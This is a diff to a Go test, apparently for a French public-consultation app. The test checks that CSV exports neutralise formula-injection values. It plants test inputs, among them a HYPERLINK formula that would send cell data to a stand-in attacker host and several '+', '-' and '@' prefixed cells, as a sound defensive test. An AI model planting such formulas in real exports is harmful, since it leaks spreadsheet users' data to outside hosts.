@@ -8,7 +8,8 @@ import (
 )
 
 func TestEveryCSVCellFromUserTextIsNeutralised(t *testing.T) {
-	s, _ := newServer(t)
+	s, st := newServer(t)
+	copyMinistry(t, st) // the demo's Ministère ouvert #1 has its minutes published
 	do := func(role, method, url, body string, want int) string {
 		t.Helper()
 		w := call(t, s, role, method, url, body)
@@ -18,14 +19,14 @@ func TestEveryCSVCellFromUserTextIsNeutralised(t *testing.T) {
 		return w.Body.String()
 	}
 	const formula = `=HYPERLINK("http://attaquant.example/?"&A1,"Cliquez")`
-	do(admin, "PATCH", "/api/v1/workshops/3", `{"title":`+jsonString(formula)+`}`, 200)
-	do(facil, "POST", "/api/v1/workshops/3/contributions", `{"category":"future_commitments","text":"+SUM(1;2)","author":"@Regards","consent":true,"publishable":true}`, 201)
-	do(facil, "POST", "/api/v1/workshops/3/contributions", `{"category":"impact_indicators","text":"  -2+3","publishable":true}`, 201)
-	for _, ws := range []string{"1", "2", "3", "4", "5"} {
+	do(admin, "PATCH", "/api/v1/workshops/11", `{"title":`+jsonString(formula)+`}`, 200)
+	do(facil, "POST", "/api/v1/workshops/11/contributions", `{"category":"future_commitments","text":"+SUM(1;2)","author":"@Regards","consent":true,"publishable":true}`, 201)
+	do(facil, "POST", "/api/v1/workshops/11/contributions", `{"category":"impact_indicators","text":"  -2+3","publishable":true}`, 201)
+	for _, ws := range []string{"9", "10", "11", "12", "13"} {
 		do(admin, "POST", "/api/v1/workshops/"+ws+"/minutes/approve", "", 200)
 	}
-	do(orgSERE, "POST", "/api/v1/events/1/minutes/publish", "", 200)
-	rows := frenchCSV(t, []byte(do(anonymous, "GET", "/api/v1/events/1/contributions.csv", "", 200)))
+	do(orgSERE, "POST", "/api/v1/events/3/minutes/publish", "", 200)
+	rows := frenchCSV(t, []byte(do(anonymous, "GET", "/api/v1/events/3/contributions.csv", "", 200)))
 	if len(rows) != 3 {
 		t.Fatalf("csv: %q", rows)
 	}
